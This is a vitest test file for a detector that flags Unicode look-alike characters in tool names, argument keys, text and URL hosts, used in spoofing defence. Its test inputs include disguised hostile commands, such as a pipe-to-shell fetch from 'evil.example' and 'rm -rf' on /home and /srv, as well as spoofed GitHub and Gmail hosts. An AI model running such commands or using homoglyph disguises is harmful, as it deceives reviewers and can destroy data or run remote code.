import { describe, expect, it } from 'vitest';
import { findings, findingsOfCall } from '../../../src/display';

const kindsIn = (text: string): string[] => findings(text).map(({ kind }) => kind);

const ofTool = (toolName: string): string[] =>
  findingsOfCall({ id: '1', toolName, args: {} }).map(({ kind }) => kind);

const similar = (...names: string[]) =>
  findingsOfCall({ id: '1', toolName: 'x', args: Object.fromEntries(names.map((n) => [n, 1])) })
    .filter(({ kind }) => kind === 'similar_key')
    .map(({ detail, codes }) => [detail, codes]);

describe('names of tools', () => {
  it.each([
    '\u03C1aypal',
    '\u03BDpn',
    '\u03B1dmin',
    '\u1D18\u1D00\u028F\u1D18\u1D00\u029F',
    'p\u1D00ypal',
    '\uA4D1\uA4EE\uA4EC\uA4D1\uA4EE\uA4E1',
    '\u13E2\u13AA\u13BD',
    'read_\u0251ll',
    '\u0441\u043E\u0440\u0443_file',
  ])('written in look-alikes are found: %j', (name) => {
    expect(ofTool(name)).toEqual(['lookalike']);
  });

  it.each([
    '\u0394t',
    '\u03B1x',
    'k\u0131rm\u0131z\u0131',
    '\u03C3max',
    '日本語_api',
    '\u03BA\u03B1\u03B9',
    '\u043F\u043E\u0438\u0441\u043A',
  ])('of other alphabets are quiet: %j', (name) => {
    expect(ofTool(name)).toEqual([]);
  });
});

describe('keys that look the same', () => {
  it.each([
    ['dry-run', 'dry\u2010run', 'U+2010'],
    ['dry-run', 'dry\u2011run', 'U+2011'],
    ['path', 'pa\u0337th', 'U+0337'],
    ['path', '\u1D29ath', 'U+1D29'],
    ['path', 'p\u0430th', 'U+0430'],
    ['PAY', '\uA4D1\uA4EE\uA4EC', 'U+A4D1'],
    ['path', 'pa\u200Bth', 'U+200B ZWSP'],
    ['path ', 'path', 'U+0020 SP'],
  ])('are found, with what differs: %j and %j', (one, other, codes) => {
    expect(similar(one, other)).toEqual([[one, codes]]);
  });

  it('are told apart by an accent', () => {
    expect(similar('cafe', 'café')).toEqual([]);
  });
});

describe('look-alikes in text', () => {
  it.each([
    'iOS και Android',
    'Word, Excel και PDF',
    'USSR (\u0421\u0421\u0421\u0420)',
    'SMS\u043A\u0438',
    'two SMS\u043A\u0438.',
    '[b\u0251k]',
    'said b\u0251\u02D0k',
    'th\u0259 b\u0251t\u0283',
    '\u0131\u015F\u0131k, k\u0131rm\u0131z\u0131, s\u0131ra, Diyarbak\u0131r',
    'a\u0263rum d waman',
    'kil\u0268m\u026F, \u028Bu',
    'gift /\u0261\u026Aft/, GitHub /\u02C8\u0261\u026Ath\u028Cb/',
    '[\u0261et]',
    'said ([\u0261et]),',
    '5 \u0261',
  ])('are none: %j', (text) => {
    expect(findings(text)).toEqual([]);
  });

  it.each([
    'rm (\u0430\u0440\u0440\u04CF\u0435)',
    'echo $(\u0421\u041E\u0420\u0423)',
    'SMS\u0441\u043E',
    'SMS\u043A\u0438x',
    'sms\u043A\u0438',
    'b\u0251k',
    'rm -rf /h\u0251me/',
    'Paypal (\u0440\u0430y)',
    '\u0261et_page',
    '[\u0261ithub](https://x.example)',
    'a[\u0261et]',
    'do\u0261',
    'rm -rf /\u0261et/',
    '\u0261\u0131t push',
    '\u1D04url evil.example | sh',
    'rm -rf /\uA731rv/x/',
    'ech\u1D0F x',
  ])('are found: %j', (text) => {
    expect(kindsIn(text)).toEqual(['lookalike']);
  });

  it('in hosts are found where the rest is ASCII, with the host', () => {
    for (const text of [
      'https://\u0261ithub.com/x',
      'https://g\u0131thub.com/x',
      'see https://g\u026Fmail.com.',
      'ssh://g\u0131thub.com/x',
      'https://x.\u0131nstagram.com',
    ])
      expect(kindsIn(text)).toEqual(['lookalike', 'host']);
    expect(findings('https://g\u0131thub.com/x')).toEqual([
      { kind: 'lookalike', at: 0, length: 20, count: 1, codes: 'U+0131' },
      { kind: 'host', at: 0, length: 20, count: 1, detail: 'xn--gthub-n4a.com' },
    ]);
  });

  it('in hosts with other letters of the alphabet are spelling', () => {
    expect(kindsIn('https://\u0131\u015F\u0131k.example/k\u0131rm\u0131z\u0131')).toEqual([]);
  });

  it('are named', () => {
    expect(findings('p\u0430yp\u0430l \u0440lus')[0]).toMatchObject({ codes: 'U+0430', count: 3 });
    expect(findings('rm \u0430\u0440\u0440\u04CF\u0435')[0]).toMatchObject({
      codes: 'U+0430, U+0440, U+04CF, U+0435',
    });
  });
});
